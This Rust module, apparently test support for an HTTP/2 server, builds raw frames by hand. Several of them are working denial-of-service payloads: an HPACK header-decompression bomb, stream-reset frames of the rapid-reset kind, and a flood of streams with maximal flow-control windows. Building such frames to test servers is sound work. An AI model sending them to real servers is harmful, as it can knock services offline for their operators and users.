//! Frames of HTTP/2, byte by byte, as no honest client sends them.

/// What a client begins with.
pub const HELLO: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// A frame.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// A field that no table keeps.
pub fn field(name: &str, value: &str) -> Vec<u8> {
    let mut field = vec![0, name.len() as u8];
    field.extend_from_slice(name.as_bytes());
    assert!(value.len() < 127);
    field.push(value.len() as u8);
    field.extend_from_slice(value.as_bytes());
    field
}

/// The fields that every request has.
pub fn request(method: &str) -> Vec<u8> {
    [field(":method", method), field(":scheme", "http"), field(":path", "/"), field(":authority", "test")].concat()
}

pub const HEADERS: u8 = 1;
pub const END_STREAM: u8 = 1;
pub const END_HEADERS: u8 = 4;

/// The head of a request whose body follows.
pub fn post(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &request("POST"))
}

/// Takes back a request.
pub fn reset(stream: u32) -> Vec<u8> {
    frame(3, 0, stream, &8u32.to_be_bytes())
}

/// The head of a request that grows when it is unpacked: a field of 4,000 bytes that the table keeps, and then so many
/// times one byte that stands for it.
pub fn bomb(stream: u32, times: usize) -> Vec<u8> {
    let mut block = request("GET");
    block.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
    block.extend_from_slice("y".repeat(4000).as_bytes());
    block.extend(vec![0x80 | 62; times]);
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
}

/// Asks on so many streams, with windows that are wide open.
pub fn greedy(streams: u32) -> Vec<u8> {
    let block = request("GET");
    let asked = (0..streams).flat_map(|nth| frame(HEADERS, END_STREAM | END_HEADERS, nth * 2 + 1, &block));
    let wide = frame(8, 0, 0, &0x7000_0000u32.to_be_bytes());
    let open = frame(4, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]);
    [&HELLO[..24], &open, &wide, &asked.collect::<Vec<u8>>()].concat()
}
